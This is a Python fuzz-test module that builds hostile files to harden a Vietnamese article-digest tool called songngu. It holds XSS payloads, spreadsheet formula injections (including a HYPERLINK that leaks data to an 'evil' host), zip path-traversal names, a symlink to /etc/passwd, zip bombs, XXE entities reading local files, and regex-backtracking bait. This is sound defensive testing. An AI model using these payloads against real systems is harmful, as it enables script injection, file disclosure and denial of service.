"""Files that try to break songngu, or through it the reader of the digest. Each maker gives a name and the bytes."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from random import Random

from tests.readers import made

ALIVE = "window.injected=1"
SCRIPTS = (
    f"<script>{ALIVE}</script>", f'"><img src=x onerror="{ALIVE}">', f"<svg onload={ALIVE}>", f"javascript:{ALIVE}",
    f"data:text/html,<script>{ALIVE}</script>", f"[bấm](javascript:{ALIVE})", f"![x](x' onerror='{ALIVE})",
    f"</title></style></textarea><script>{ALIVE}</script>", "{{ 7*7 }}{% raw %}", "]]><script/>", "<base href=//evil>",
    f"<iframe srcdoc='<script>{ALIVE}</script>'>", f"<a href='jAvaScript&colon;{ALIVE}'>x</a>", "&lt;script&gt;",
)  # fmt: skip
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", '=HYPERLINK("http://evil/?"&A1)')
BAITS = ("a", "1", " ", ".", ",", "1.", "1,", "a ", "A", "Ả", "-", "–", "(", ")", "[", "]", "<", ">", "&", "/", ":",
         '"', "'", "“", "$", "%", "tỷ ", "1 tỷ ", "ngày 1/", "http://", "a@", "a.", "Ảnh: ", "(Theo ", "Nguyễn ",
         "\u0301", "\u200b", "*", "_", "`", "#", "|", "\\", "{{", "\n", "\t", "=",
         "- ", "> ", "Ông A ", "1/1/")  # fmt: skip
SIGNS = "\x00\x07\x1b\x7f\x85\u061c\u200b\u200d\u202a\u202e\u2028\u2066\u2069\ufeff\ufffe\uffff\u0300\u0e33\ud7ff\ue000\U000e0001\U0010ffff\u0378"  # noqa: E501
OUTSIDE = ("../evil.txt", "../../evil.txt", "/tmp/songngu-evil.txt", "C:\\evil.txt", "a/../../evil.txt", "..\\evil.txt",
           "evil\x00.txt", "\u202etxt.evil", "con.txt", "a" * 300 + ".txt", ".songngu.lock", "songngu.db")  # fmt: skip


def text(chance: Random) -> str:
    """A text of signs of every kind between pieces of an article."""
    parts = []
    for _ in range(chance.randint(1, 40)):
        kind = chance.random()
        if kind < 0.3:
            parts.append(chance.choice(made.PIECES))
        elif kind < 0.5:
            parts.append("".join(chance.choice(SIGNS) for _ in range(chance.randint(1, 20))))
        elif kind < 0.7:
            codes = (chance.randrange(0x110000) for _ in range(20))
            parts.append("".join(chr(code) for code in codes if not 0xD800 <= code < 0xE000))
        elif kind < 0.75:
            parts.append("e" + "\u0301" * chance.choice([2, 50, 5000]))
        else:
            parts.append(chance.choice((*SCRIPTS, *FORMULAS)))
        parts.append(chance.choice(["\n\n", "\n", " ", "", "\r\n", "\u2028"]))
    return "".join(parts)


def altered(chance: Random) -> tuple[str, bytes]:
    """A file of a known program with parts taken out or put in."""
    name = chance.choice(sorted(made.FILES))
    data = bytearray(made.FILES[name]())
    for _ in range(chance.choice([1, 5, 50])):
        at = chance.randrange(len(data) + 1)
        if chance.random() < 0.4:
            del data[at : at + chance.choice([1, 10, 500])]
        else:
            data[at:at] = chance.choice([chance.randbytes(8), chance.choice(SCRIPTS).encode(), b"<div>" * 50, b"\x00"])
    return name, bytes(data)


def random_bytes(chance: Random) -> tuple[str, bytes]:
    suffix = chance.choice(["txt", "md", "html", "docx", "epub", "srt", "xml", "jsonl", "zip", "rss", "vtt"])
    return f"bytes.{suffix}", chance.randbytes(chance.choice([1, 100, 10_000]))


def unicode(chance: Random) -> tuple[str, bytes]:
    data = text(chance).encode("utf-8", "surrogatepass")
    if chance.random() < 0.2:
        data += "\ud800 lẻ \udfff".encode("utf-8", "surrogatepass")
    return f"unicode.{chance.choice(['txt', 'md', 'html', 'srt'])}", data


def scripts(chance: Random) -> tuple[str, bytes]:
    """Markup that wants to live, as title, caption, address, date and text of every kind of article."""
    one, two, three = (chance.choice(SCRIPTS) for _ in range(3))
    kind = chance.choice(["txt", "md", "html", "jsonl", "rss"])
    if kind == "jsonl":
        line = {"title": one, "url": f"javascript:{ALIVE}", "date": two, "text": f"Đầu. {three}\n\n{two}", "id": one}
        return "scripts.jsonl", json.dumps(line).encode()
    if kind == "rss":
        item = f"<item><title><![CDATA[{one}]]></title><link>javascript:{ALIVE}</link><pubDate>{three[:5]}</pubDate>"
        body = f"<description><![CDATA[<p>Bài này có {two}</p>]]></description></item>".replace("]]]]>", "]]>")
        return "scripts.rss", f'<rss version="2.0"><channel><title>x</title>{item}{body}</channel></rss>'.encode()
    body = f"{one}\n\n12/1/2026\n\n{two} ở Hà Nội. {three}\n\nẢnh: {two} (Ảnh: {one})\n\n{chance.choice(FORMULAS)}\n"
    if kind == "html":
        body = f"<html><head><title>{one}</title><link rel=canonical href='javascript:{ALIVE}'></head><body><h1>{one}"
        body += (
            f"</h1><p>Câu này đủ dài để là một đoạn của bài. {two}</p><figcaption>{three}</figcaption></body></html>"
        )
    return f"scripts.{kind}", body.encode()


def archives(chance: Random) -> tuple[str, bytes]:
    """Names that lead out, links, bombs, many entries, entries that overlap, archives within archives."""
    buffer = io.BytesIO()
    suffix = chance.choice(["zip", "docx", "epub"])
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for _ in range(chance.randint(1, 8)):
            kind = chance.random()
            if kind < 0.4:
                archive.writestr(zipfile.ZipInfo(chance.choice(OUTSIDE)), text(chance).encode())
            elif kind < 0.5:
                info = zipfile.ZipInfo("link.txt")
                info.external_attr = 0o120777 << 16
                archive.writestr(info, "/etc/passwd")
            elif kind < 0.6:
                archive.writestr("bomb.txt", b"0" * chance.choice([10**6, 2 * 10**7]))
            elif kind < 0.7:
                archive.writestr("inner.zip", made.packed({"a.txt": "b"}))
            else:
                archive.writestr(chance.choice(["word/document.xml", "META-INF/container.xml", "a.txt", "b.html"]),
                                 chance.choice([xml(chance)[1], text(chance).encode()]))  # fmt: skip
    data = bytearray(buffer.getvalue())
    if chance.random() < 0.4:  # sizes and places that lie
        for _ in range(5):
            data[chance.randrange(len(data))] = chance.randrange(256)
    return f"archive.{suffix}", bytes(data)


def xml(chance: Random) -> tuple[str, bytes]:
    """Entities that grow, that read files and the network; nesting without end."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    heads = (
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/">%p;]>', "",
    )  # fmt: skip
    depth = chance.choice([1, 100, 50_000])
    inside = f"{'<b>' * depth}&l9; chữ{'</b>' * depth}"
    body = f"<rss><channel><item><title>&l9;</title><description>{inside}</description></item></channel></rss>"
    return f"entities.{chance.choice(['xml', 'rss', 'html'])}", (chance.choice(heads) + body).encode()


def deep(chance: Random) -> tuple[str, bytes]:
    depth = chance.choice([1000, 100_000])
    return chance.choice([
        ("deep.html", b"<div>" * depth + "chữ".encode()),
        ("deep.jsonl", b'{"text":' + b"[" * depth + b"]" * depth + b"}"),
        ("deep.md", b">" * depth + b" a"), ("deep.md", b"- " * (depth // 10) + b"a"), ("deep.md", b"[" * depth),
        ("deep.md", b"*" * depth + b"a"), ("deep.html", b"<table><tr><td>" * (depth // 10)),
    ])  # fmt: skip


def bait(chance: Random) -> tuple[str, bytes]:
    """One sign, or two in turn, again and again: what a regular expression that goes back takes for ever over."""
    run = chance.choice(BAITS) if chance.random() < 0.6 else chance.choice(BAITS) + chance.choice(BAITS)
    size = chance.choice([3_000, 20_000, 100_000])
    head = "Giá vàng tăng\n\n" if chance.random() < 0.5 else ""
    return f"bait.{chance.choice(['txt', 'txt', 'md', 'html', 'srt'])}", (
        head + run * (size // len(run)) + "!"
    ).encode()


MAKERS: dict[str, Callable[[Random], tuple[str, bytes]]] = {
    "altered": altered, "bytes": random_bytes, "unicode": unicode, "scripts": scripts, "archives": archives,
    "xml": xml, "deep": deep, "bait": bait,
}  # fmt: skip
